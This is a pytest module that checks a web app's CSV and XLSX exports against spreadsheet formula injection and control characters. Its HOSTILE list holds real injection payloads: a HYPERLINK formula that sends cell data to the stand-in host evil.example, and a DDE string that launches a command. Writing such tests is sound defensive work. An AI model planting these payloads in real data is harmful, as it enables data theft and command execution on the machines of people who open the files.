"""Formula injection: every text cell of every CSV and XLSX export is inert, whatever the
estate, building, key, borrower, desk item or finding text holds; and text with control
characters no workbook can hold still exports. The exports are found in ``app.url_map`` (every
route with a ``fmt`` argument), so a new export is held to the same rule without a new line
here."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.conftest import url_sample
from tests.webapp.test_access import PLAIN, SAMPLES
from webapp import exports
from webapp.extensions import db
from webapp.models import Building, Estate, Key, Sign, User
from webapp.models.desk import DeskHandover, DeskItem
from webapp.models.sync import Finding, KeyEvent

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"點我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
]
# Control characters a phone or a pasted name can carry, that XML 1.0 (so XLSX) cannot hold.
CONTROL = ["\x01=1+1", "a\x08b", "\x1b[31mred", "\x0bv\x0cf", "\x1f"]


def _poison(app, seed, texts=HOSTILE) -> None:
    """Put hostile text in every free-text field the exports show."""
    n = iter(range(10_000))

    def bad() -> str:
        i = next(n)
        return texts[i % len(texts)] + f" {i}"

    with app.app_context():
        for estate in db.session.scalars(sa.select(Estate)):
            estate.name = bad()
        for building in db.session.scalars(sa.select(Building)):
            building.name = bad()[:40]
        for key in db.session.scalars(sa.select(Key)):
            key.name = bad()
            key.holder_name = bad()
            key.equipment_room = bad() if key.equipment_room else None
        for sign in db.session.scalars(sa.select(Sign)):
            sign.location = bad()
            sign.description = bad()
        for finding in db.session.scalars(sa.select(Finding)):
            finding.note, finding.category, finding.location = bad(), bad()[:64], bad()
        db.session.execute(sa.update(KeyEvent).values(borrower_name=bad(), purpose=bad()))
        for user in db.session.scalars(sa.select(User)):
            user.display_name = bad()
        for item in db.session.scalars(sa.select(DeskItem)):
            item.resident_name, item.description = bad(), bad()
            item.received_from, item.collector_name = bad(), bad()
        for entry in db.session.scalars(sa.select(DeskHandover)):
            entry.note, entry.tasks = bad(), [bad(), bad()]
        db.session.commit()


def _digest(app, username: str) -> int:
    """A daily digest of the reader's estates, as the job makes it (its files drawn on
    download)."""
    from webapp import digest_registry
    from webapp.models.digests import AlertDigest
    from webapp.models.types import utcnow

    with app.app_context(), app.test_request_context():
        user = db.session.scalar(sa.select(User).where(User.username == username))
        now = utcnow()
        period = digest_registry.Period.of("daily", now.date(), now)
        estates = list(user.visible_estates)
        data = digest_registry.build(db.session, user, estates, period)
        digest = AlertDigest(key=f"probe-{username}", user_id=user.id, kind="daily",
                             day=period.due, estate_id=estates[0].id, created_at=now,
                             data=data, job_id="probe", files={})  # fmt: skip
        db.session.add(digest)
        db.session.commit()
        return digest.id


def export_rules(app) -> list:
    """Every route that answers a file in a format it names (an argument ``fmt``)."""
    return sorted(
        (r for r in app.url_map.iter_rules() if "fmt" in r.arguments and "GET" in r.methods),
        key=lambda r: r.rule,
    )


def _export_urls(app, seed, username: str) -> list[tuple[str, bool]]:
    """The URL of every export in each of its spreadsheet formats, its objects the first
    estate's (a digest of the reader's own), over the last 30 days; and whether the route
    names its formats (one that takes any ``<fmt>`` answers 404 for one it does not offer)."""
    from flask import url_for

    digest = _digest(app, username)
    today = date.today()
    span = {"start": (today - timedelta(days=30)).isoformat(), "end": today.isoformat()}
    urls = []
    for rule in export_rules(app):
        spec = app.view_functions[rule.endpoint].access
        with app.app_context():
            values = {}
            for arg in rule.arguments - {"fmt"}:
                kind = spec.scope[arg]
                if arg == "digest_id":
                    values[arg] = digest
                elif kind == PLAIN:
                    values[arg] = url_sample(rule, arg, {"kind": "units"}.get(arg, "open"))
                else:
                    values[arg] = SAMPLES[kind](seed.estate_ids[0])
            db.session.remove()
        items = getattr(rule._converters["fmt"], "items", None)
        for fmt in sorted((items or {"csv", "xlsx"}) & {"csv", "xlsx"}):
            with app.test_request_context():
                urls.append((url_for(rule.endpoint, fmt=fmt, **values, **span), bool(items)))
    return urls


def _answers(client, app, seed, username):
    """Each export's answer that is a file (not a role's 403, not a format it lacks)."""
    for url, named in _export_urls(app, seed, username):
        response = client.get(url)
        if response.status_code == 403 or (response.status_code == 404 and not named):
            continue
        assert response.status_code == 200, url
        yield url, response


def test_the_export_walk_finds_every_spreadsheet_export(app):
    """Does the walk find the exports of every area (a new one is found the same way)?"""
    found = {r.endpoint for r in export_rules(app)}
    assert {
        "review.findings_export", "keys.register_export", "keys.ledger_export",
        "desk.items_export", "desk.handovers_export", "paper.checks_export",
        "digests.download", "registry.units_export", "renovation_report.download",
    } <= found  # fmt: skip


def _cells(response) -> list[str]:
    if response.mimetype == "text/csv":
        text = response.get_data().decode("utf-8-sig")
        return [c for row in csv.reader(io.StringIO(text)) for c in row]
    book = load_workbook(io.BytesIO(response.get_data()))
    out = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    out.append(cell.value)
    return out


@pytest.mark.parametrize("username", ["supervisor", "admin"])
def test_no_export_holds_a_live_formula(app, client, auth, seed, username):
    """Was an estate named =HYPERLINK(...) a live formula in /review/findings.xlsx, and a
    borrower name starting with TAB raw in the registry's keys CSV?"""
    _poison(app, seed)
    auth.login(username)
    checked = hostile_seen = 0
    for url, response in _answers(client, app, seed, username):
        for text in _cells(response):
            assert not exports.needs_guard(text), (url, text)
            hostile_seen += text.startswith("'")
        checked += 1
    assert checked >= 20 and hostile_seen > 50


@pytest.mark.parametrize("username", ["supervisor", "desk", "hq"])
def test_text_with_control_characters_still_exports(app, client, auth, seed, username):
    """Did a desk item's name typed with a control character (a pasted ESC, a backspace) make
    every XLSX export that shows it a 500 (openpyxl refuses what XML cannot hold)? Every
    export of every reader answers 200, its cells without those characters and inert."""
    _poison(app, seed, CONTROL)
    auth.login(username)
    checked = 0
    for url, response in _answers(client, app, seed, username):
        for text in _cells(response):
            assert not exports._UNWRITABLE.search(text), (url, text)
            assert not exports.needs_guard(text), (url, text)
        checked += 1
    assert checked >= 8


def test_the_writer_drops_only_what_a_workbook_cannot_hold():
    assert exports.cell("a\x01b\x1fc") == "abc"
    assert exports.cell("\x01=1+1") == "'=1+1"
    assert exports.cell("tab\there\nline\r") == "tab\there\nline\r"
    assert exports.cell("\x0b") == ""


@pytest.mark.parametrize("text", HOSTILE)
def test_the_writer_guards_and_the_importer_restores(text):
    assert exports.needs_guard(text)
    guarded = exports.safe(text)
    assert not exports.needs_guard(guarded) and exports.restore(guarded) == text
    for plain in ("漏水", "3棟", "", "a=b", "'quoted", "１＝１"):
        assert exports.safe(plain) == plain and exports.restore(plain) == plain


@given(st.text(alphabet="'= +-@\t\nab漏", max_size=8))
def test_every_text_comes_back_from_an_export_as_it_was(text):
    """Does what the importer reads back equal what was exported, whatever the text, even one
    that starts with an apostrophe before a formula sign (``'=1`` came back as ``=1``)?"""
    guarded = exports.safe(text)
    assert not exports.needs_guard(guarded)
    assert exports.restore(guarded) == text
